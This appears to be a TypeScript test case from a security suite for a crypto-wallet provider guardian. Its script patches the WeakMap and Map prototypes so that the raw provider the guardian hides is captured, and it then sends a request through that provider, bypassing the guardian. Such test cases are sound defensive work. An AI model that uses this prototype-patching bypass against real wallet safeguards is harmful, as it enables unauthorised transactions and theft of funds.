import type { Attack } from '../Attack.ts';

/** A guardian keeps its secrets in maps. */
export const attack: Attack = {
  entry: 'provider.request',
  mechanism: 'WeakMap, Map and Set prototypes leak what they are asked for',
  discovers: true,
  script: `
const wallet = await kit.wallet();
const raws = new Set();
for (const Type of [WeakMap, Map]) {
  const { get, set } = Type.prototype;
  const see = (value) => { if (value && typeof value === 'object' && typeof value.request === 'function') add.call(raws, value); return value; };
  const { add } = Set.prototype;
  Type.prototype.get = function (key) { see(key); return see(get.call(this, key)); };
  Type.prototype.set = function (key, value) { see(key); see(value); return set.call(this, key, value); };
}
await wallet.request({ method: 'eth_chainId' });
for (const raw of raws) raw.request(kit.send());
wallet.request(kit.send());
`,
};
